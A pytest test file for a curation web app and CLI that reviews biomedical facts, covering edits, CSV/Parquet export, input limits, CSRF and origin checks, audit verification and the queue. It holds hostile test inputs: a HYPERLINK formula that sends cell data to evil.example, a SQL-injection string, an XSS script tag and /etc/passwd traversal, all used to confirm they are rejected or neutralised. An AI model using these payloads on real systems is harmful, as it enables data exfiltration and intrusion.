"""Issue 8 over HTTP and the CLI: validated edits, safe exports, a robust server, the audit chain, the queue."""

from __future__ import annotations

import csv
import json
import random
import re
import sqlite3
import sys
from pathlib import Path
from urllib.parse import quote

import pandas as pd
import pytest
import typer
from fastapi.testclient import TestClient
from typer.testing import CliRunner

sys.path.insert(0, str(Path(__file__).parent / "fixtures" / "review"))
import seed_run  # noqa: E402
from review_client import BASE, TOKEN, csrf, login, open_review  # noqa: E402,F401

from pipeline import store  # noqa: E402
from pipeline.review import create_app  # noqa: E402
from pipeline.review.commands import register  # noqa: E402

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture
def setup(tmp_path):
    return open_review(tmp_path)


@pytest.fixture
def cli():
    app = typer.Typer()
    register(app)
    return app


def key_of(db: Path, opening: str, predicate: str) -> str:
    conn = store.connect(db)
    try:
        return conn.execute("SELECT content_key FROM facts WHERE sentence LIKE ? AND predicate = ?",
                            (f"%{opening}%", predicate)).fetchone()[0]
    finally:
        conn.close()


def post(client, url, token, **fields):
    return client.post(url, data={"csrf_token": token, **fields}, follow_redirects=False)


def state(client, key) -> dict:
    return client.get(f"/api/facts/{key}").json()


# ---------------------------------------------------------------- 2. edits that mean something

def test_edited_ids_are_checked_against_the_knowledge_base(setup):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Riluzole slowed", "decreases")
    response = post(client, f"/facts/{key}/edit", token, version=0, subject_id="javascript:alert(23)")
    assert response.status_code == 400 and "not a concept of the knowledge base" in response.text
    assert post(client, f"/facts/{key}/edit", token, version=0, object_type="WIZARD").status_code == 400
    assert post(client, f"/facts/{key}/edit", token, version=0, species="mouse").status_code == 400
    assert state(client, key)["state"]["version"] == 0
    found = client.get("/api/concepts?q=edaravone").json()["concepts"]
    assert found[0] == {"id": "MESH:D000077553", "type": "CHEMICAL_OR_DRUG", "name": "Edaravone"}
    assert all(c["type"] == "DISEASE" for c in client.get("/api/concepts?q=amyotrophic&type=DISEASE").json()["concepts"])
    assert client.get("/api/concepts?q=x&type=WIZARD").status_code == 400


def test_an_edited_argument_exports_its_new_name_type_and_claim_key(setup, cli, tmp_path):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Riluzole slowed", "decreases")
    assert post(client, f"/facts/{key}/edit", token, version=0, subject_id="MESH:D000077553").status_code == 303
    out = tmp_path / "export"
    assert CliRunner().invoke(cli, ["export", str(setup["db"]), "--out", str(out)]).exit_code == 0
    row = pd.read_parquet(out / "curated_facts.parquet").set_index("content_key").loc[key]
    assert (row["subject_id"], row["subject_name"], row["subject_type"]) == \
           ("MESH:D000077553", "Edaravone", "CHEMICAL_OR_DRUG")
    assert row["claim_key"] == "MESH:D000077553|decreases|MESH:D018450"
    assert "Edaravone" in client.get(f"/facts/{key}?status=all").text


def test_accepting_an_edited_fact_keeps_the_edits_and_discarding_is_explicit(setup):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Treg infusions were safe", "safe_in")
    post(client, f"/facts/{key}/edit", token, version=0, certainty="hedged")
    page = client.get(f"/facts/{key}?status=all").text
    assert "Accept as edited (a)" in page and 'id="discard-form"' in page
    assert post(client, f"/facts/{key}/accept", token, version=1).status_code == 303
    assert state(client, key)["state"]["status"] == "edited"
    assert state(client, key)["effective"]["certainty"] == "hedged"
    assert post(client, f"/facts/{key}/discard_edits", token, version=2).status_code == 303
    assert state(client, key)["state"]["edits"] == {} and state(client, key)["state"]["status"] == "pending"


# ---------------------------------------------------------------- 3. safe exports

def test_csv_export_neutralizes_formulas_and_filters_are_validated(setup, cli, tmp_path):
    client, token, db = setup["client"], setup["token"], setup["db"]
    keys = [key_of(db, "Riluzole slowed", "decreases"), key_of(db, "Treg infusions were safe", "safe_in"),
            key_of(db, "Tregs were lower", "lower_in")]
    post(client, f"/facts/{keys[0]}/comment", token, version=0, comment=HYPERLINK)
    post(client, f"/facts/{keys[0]}/accept", token, version=1)
    post(client, f"/facts/{keys[1]}/reject", token, version=0, reason="other", note="+1 see @Bob\tlater")
    post(client, f"/facts/{keys[2]}/comment", token, version=0, comment="-5 mg, fine")
    out = tmp_path / "export"
    runner = CliRunner()
    result = runner.invoke(cli, ["export", str(db), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with open(out / "curated_facts.csv", newline="", encoding="utf-8") as handle:
        rows = {r["content_key"]: r for r in csv.DictReader(handle)}
    assert rows[keys[0]]["comment"] == "'" + HYPERLINK
    assert rows[keys[1]]["note"] == "'+1 see @Bob\tlater"
    assert rows[keys[2]]["comment"] == "'-5 mg, fine"
    assert rows[keys[1]]["subject_start"].isdigit()  # numbers are left alone
    parquet = pd.read_parquet(out / "curated_facts.parquet").set_index("content_key")
    assert parquet.loc[keys[0], "comment"] == HYPERLINK  # Parquet keeps the value

    result = runner.invoke(cli, ["export", str(db), "--out", str(out), "--predicate", "treatz"])
    assert result.exit_code == 2 and "unknown predicate treatz" in result.output and "treats" in result.output
    assert runner.invoke(cli, ["export", str(db), "--out", str(out), "--scope", "some"]).exit_code == 2
    assert runner.invoke(cli, ["export", str(db), "--out", str(out), "--min-confidence", "7"]).exit_code == 2


def test_export_scopes_carry_state_and_curator(setup, cli, tmp_path):
    client, token, db = setup["client"], setup["token"], setup["db"]
    accepted, rejected = key_of(db, "Riluzole slowed", "decreases"), key_of(db, "Tregs were lower", "lower_in")
    post(client, f"/facts/{accepted}/accept", token, version=0)
    post(client, f"/facts/{rejected}/reject", token, version=0, reason="duplicate")
    out, runner = tmp_path / "export", CliRunner()
    expected = {"curated": {accepted}, "decided": {accepted, rejected}}
    for scope, keys in expected.items():
        result = runner.invoke(cli, ["export", str(db), "--out", str(out), "--scope", scope])
        assert result.exit_code == 0, result.output
        frame = pd.read_parquet(out / "curated_facts.parquet")
        assert set(frame["content_key"]) == keys
        assert set(frame["curator"]) == {"Ann Curator"} and (out / "curated_facts.csv").exists()
    runner.invoke(cli, ["export", str(db), "--out", str(out), "--scope", "all"])
    frame = pd.read_parquet(out / "curated_facts.parquet")
    assert len(frame) == len(seed_run.SEED_FACTS) + len(seed_run.PAYLOAD_FACTS)
    assert frame["status"].value_counts().to_dict() == {"pending": len(frame) - 2, "accepted": 1, "rejected": 1}


# ---------------------------------------------------------------- 4. a robust server

def test_parameters_are_bounded_and_typed(setup):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Riluzole slowed", "decreases")
    assert client.get("/queue?page=99999999999999999999999").status_code == 400
    assert client.get("/queue?page=-1").status_code == 400
    assert client.get("/queue?status=everything").status_code == 400
    assert client.get("/queue?predicate=treatz").status_code == 400
    assert client.get(f"/queue?q={'x' * 201}").status_code == 400
    response = post(client, f"/facts/{key}/comment", token, version=0, comment="x" * 1_000_000)
    assert response.status_code == 413 and "at most 1,000,000 bytes" in response.text
    response = post(client, f"/facts/{key}/comment", token, version=0, comment="x" * 10_001)
    assert response.status_code == 400 and "at most 10,000" in response.text
    assert post(client, f"/facts/{key}/comment", token, version=0, comment="x" * 10_000).status_code == 303
    assert post(client, f"/facts/{key}/reject", token, version=1, reason="other", note="y" * 10_001).status_code == 400
    assert post(client, "/curator", token, name="N" * 61).status_code == 400
    assert state(client, key)["state"]["version"] == 1


def test_uploads_are_refused(setup):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Riluzole slowed", "decreases")
    response = client.post(f"/facts/{key}/comment", data={"csrf_token": token, "version": "0"},
                           files={"comment": ("evil.txt", b"hello", "text/plain")})
    assert response.status_code == 415
    response = client.post(f"/facts/{key}/comment", json={"csrf_token": token, "version": 0, "comment": "x"})
    assert response.status_code == 415
    assert state(client, key)["state"]["version"] == 0


def test_posts_from_another_origin_are_refused_even_with_a_valid_token(setup):
    client, token, key = setup["client"], setup["token"], key_of(setup["db"], "Riluzole slowed", "decreases")
    for headers in ({"origin": "http://evil.example"}, {"origin": "null"},
                    {"referer": "http://evil.example/page"}, {"origin": "http://127.0.0.1:9999"}):
        response = client.post(f"/facts/{key}/accept", data={"csrf_token": token, "version": 0}, headers=headers,
                               follow_redirects=False)
        assert response.status_code == 403, headers
    assert state(client, key)["state"]["version"] == 0
    response = client.post(f"/facts/{key}/accept", data={"csrf_token": token, "version": 0},
                           headers={"origin": BASE}, follow_redirects=False)
    assert response.status_code == 303


RAW = {"%00", "%ff%fe", "%2e%2e%2f%2e%2e%2fetc", "%C0%AE"}  # sent as they are (already URL-encoded)
HOSTILE = sorted(RAW) + ["", "0", "-1", "99999999999999999999999", "1e309", "NaN", "%00", "\x00", "'; DROP TABLE facts;--",
           "<script>alert(1)</script>", "../../etc/passwd", "x" * 5000, "٣", "\ud800".encode("utf-8", "surrogatepass")
           .decode("latin-1"), "%ff%fe", "a|b|c", "//evil.example", "{}", "[]", "true", "9" * 5000]


def test_a_few_hundred_hostile_requests_get_no_server_error(setup):
    client, token, db = setup["client"], setup["token"], setup["db"]
    key = key_of(db, "Riluzole slowed", "decreases")
    rng = random.Random(8)
    requests = []
    for raw in HOSTILE:
        value = raw if raw in RAW else quote(raw, safe="")
        requests += [
            ("GET", f"/queue?page={value}", None), ("GET", f"/queue?status={value}&q={value}", None),
            ("GET", f"/queue?entity={value}&doc={value}&sort={value}&certainty={value}", None),
            ("GET", f"/queue?agreement={value}&agreement_sort={value}&page={value}", None),
            ("GET", f"/facts/{key}?status=all&agreement={value}&agreement_sort={value}", None),
            ("GET", f"/facts/{value}?status={value}", None), ("GET", f"/api/facts/{value}", None),
            ("GET", f"/documents/{value}", None), ("GET", f"/claims/{value}", None),
            ("GET", f"/audit?curator={value}&key={value}", None), ("GET", f"/api/concepts?q={value}", None),
            ("GET", f"/curator?next={value}", None), ("GET", f"/login/{value}", None),
            ("POST", f"/facts/{key}/{value}", {"version": raw}),
            ("POST", f"/facts/{key}/accept", {"version": raw, "queue": raw}),
            ("POST", f"/facts/{key}/edit", {"version": "0", rng.choice(store.EDITABLE_FIELDS): raw}),
            ("POST", f"/facts/{key}/reject", {"version": "0", "reason": raw, "note": raw}),
            ("POST", f"/bulk/{rng.choice(['accept', 'reject', value])}", {"item": raw, "queue": raw}),
            ("POST", "/bulk/accept", {"item": f"{key}:{raw}"}),
            ("POST", "/curator", {"name": raw, "next": raw}),
        ]
    assert len(requests) >= 300
    statuses = []
    for method, url, data in requests:
        if method == "GET":
            response = client.get(url, follow_redirects=False)
        else:
            response = client.post(url, data={"csrf_token": token, **data}, follow_redirects=False)
        statuses.append(response.status_code)
        assert response.status_code < 500, (method, url, data, response.text[:300])
    assert {400, 404}.issubset(statuses)


def test_audit_verify_reports_a_deleted_row(setup, cli):
    client, token, db = setup["client"], setup["token"], setup["db"]
    key = key_of(db, "Riluzole slowed", "decreases")
    for version, action in enumerate(["accept", "reset", "accept"]):
        post(client, f"/facts/{key}/{action}", token, version=version)
    runner = CliRunner()
    result = runner.invoke(cli, ["audit", "verify", str(db)])
    assert result.exit_code == 0 and "intact (3 rows" in result.output
    raw = sqlite3.connect(db)
    raw.execute("DROP TRIGGER audit_no_delete")
    raw.execute("DELETE FROM audit WHERE id = 2")
    raw.commit()
    raw.close()
    result = runner.invoke(cli, ["audit", "verify", str(db)])
    assert result.exit_code == 1 and "rows 2 are missing" in result.output


def test_curators_file_restricts_who_may_decide(tmp_path, setup, cli, monkeypatch):
    import uvicorn

    names = tmp_path / "curators.txt"
    names.write_text("# who may decide\nAnn Curator\n\nBob\n", encoding="utf-8")
    app = create_app(setup["db"], curators=["Ann Curator", "Bob"])
    links = app.state.curator_links
    assert set(links) == {"Ann Curator", "Bob"} and links["Bob"] != links["Ann Curator"]
    stranger = TestClient(app, base_url=BASE)
    token = csrf(stranger)
    assert "Only the curators listed" in stranger.get("/curator").text
    assert stranger.post("/curator", data={"csrf_token": token, "name": "Mallory"}).status_code == 403
    key = key_of(setup["db"], "Riluzole slowed", "decreases")
    assert stranger.post(f"/facts/{key}/accept", data={"csrf_token": token, "version": 0},
                         follow_redirects=False).status_code == 403
    assert stranger.get("/login/0123456789abcdef0123456789abcdef").status_code == 404
    bob = TestClient(app, base_url=BASE)
    assert bob.get(links["Bob"]).url.path == "/queue"
    bob_token = csrf(bob)
    assert bob.post(f"/facts/{key}/accept", data={"csrf_token": bob_token, "version": 0},
                    follow_redirects=False).status_code == 303
    assert state(bob, key)["state"]["curator"] == "Bob"
    # a forged curator cookie is not a curator
    forged = TestClient(app, base_url=BASE, cookies={"alsfacts_curator": "Bob"})
    assert forged.get("/queue", follow_redirects=False).status_code == 303

    calls = []
    monkeypatch.setattr(uvicorn, "run", lambda app, host, port, **kw: calls.append(app))
    result = CliRunner().invoke(cli, ["review", str(setup["db"]), "--curators", str(names)])
    assert result.exit_code == 0, result.output
    assert re.search(r"Bob: http://127\.0\.0\.1:8765/login/[0-9a-f]{32}", result.output)
    (tmp_path / "empty.txt").write_text("# nobody\n", encoding="utf-8")
    assert CliRunner().invoke(cli, ["review", str(setup["db"]), "--curators", str(tmp_path / "empty.txt")]).exit_code == 2


# ---------------------------------------------------------------- 5. the queue

def rows_of(page: str) -> list[str]:
    return re.findall(r'class="fact-row" data-key="([0-9a-f]+)"', page)


def test_queue_search_counts_and_compact_rows(setup):
    client, token, db = setup["client"], setup["token"], setup["db"]
    n = len(seed_run.SEED_FACTS) + len(seed_run.PAYLOAD_FACTS)
    assert len(rows_of(client.get("/queue?q=riluzole").text)) == 1
    assert len(rows_of(client.get("/queue?q=infusions+safe").text)) == 1        # every word must occur
    assert len(rows_of(client.get("/queue?q=MESH:D018450").text)) == 5          # ids too
    post(client, f"/facts/{key_of(db, 'Riluzole slowed', 'decreases')}/accept", token, version=0)
    page = client.get("/queue?q=progression").text
    counts = dict(re.findall(r'data-status="(\w+)".*?<span class="n">(\d+)</span>', page))
    assert counts == {"pending": "4", "accepted": "1", "rejected": "0", "edited": "0"}
    assert f"pending {n - 1}, accepted 1" in page
    row = re.search(r'<tr class="fact-row".*?</tr>', client.get("/queue?status=all&q=Scientists").text, re.S).group(0)
    assert '<span class="badge attr" title="attribute">level</span>' in row
    assert '<span class="badge cert cert-hedged">hedged</span>' in row
    assert '<td class="line" title="Scientists now think there is an inverse link' in row  # hover, or v to show
    assert "<br>" not in row


def test_bulk_decisions_write_one_audit_row_per_fact(setup):
    client, token = setup["client"], setup["token"]
    page = client.get("/queue").text
    items = re.findall(r'name="item" value="([0-9a-f]+:\d+)"', page)[:3]
    response = client.post("/bulk/accept", data={"csrf_token": token, "item": items, "queue": "status=pending"},
                           follow_redirects=False)
    assert response.status_code == 303 and "done=3&skipped=0" in response.headers["location"]
    assert "3 facts decided" in client.get(response.headers["location"]).text
    again = client.post("/bulk/reject", data={"csrf_token": token, "item": items, "reason": "duplicate"},
                        headers={"accept": "application/json"})
    assert again.json()["conflicts"] == [i.split(":")[0] for i in items]  # stale versions: skipped
    assert client.post("/bulk/reject", data={"csrf_token": token, "item": items[:1]}).status_code == 400
    conn = store.connect(setup["db"])
    assert [e["action"] for e in store.audit_entries(conn)] == ["accept"] * 3
    assert {e["content_key"] for e in store.audit_entries(conn)} == {i.split(":")[0] for i in items}


def test_fact_page_shows_its_position_and_the_full_fact_line(setup):
    client = setup["client"]
    keys = rows_of(client.get("/queue").text)
    page = client.get(f"/facts/{keys[2]}?status=pending").text
    assert f'<span id="position">3 of {len(keys)}</span>' in page
    key = key_of(setup["db"], "Scientists now think", "negatively_correlated_with")
    line = re.search(r'<p class="fact-line" id="fact-line">(.*?)</p>', client.get(f"/facts/{key}").text).group(1)
    assert line.startswith("Tregs [level] — negatively_correlated_with — ALS progression [rate] (hedged)")


def test_claim_view_and_audit_log_are_readable(setup):
    client, token, db = setup["client"], setup["token"], setup["db"]
    key = key_of(db, "Treg infusions were safe", "safe_in")
    post(client, f"/facts/{key}/edit", token, version=0, certainty="hedged", population="adults")
    claim = client.get("/claims/MESH:D050378|lower_in|MESH:D000690").text
    title = re.search(r'<h1 id="claim-title">(.*?)</h1>', claim, re.S).group(1)
    assert "Tregs" in title and "lower_in" in title and "MESH:" not in title
    audit = client.get("/audit").text
    assert "<strong>edit certainty</strong>: asserted &rarr; hedged" not in audit  # from the edits, not the fact
    assert "<strong>edit certainty</strong>: — &rarr; hedged" in audit
    assert "<strong>edit population</strong>: — &rarr; adults" in audit
    assert "{&#39;" not in audit and "{'" not in audit                       # no Python dict reprs
    assert '<span class="arg subj">Treg infusions</span> <span class="pred">safe_in</span>' in audit
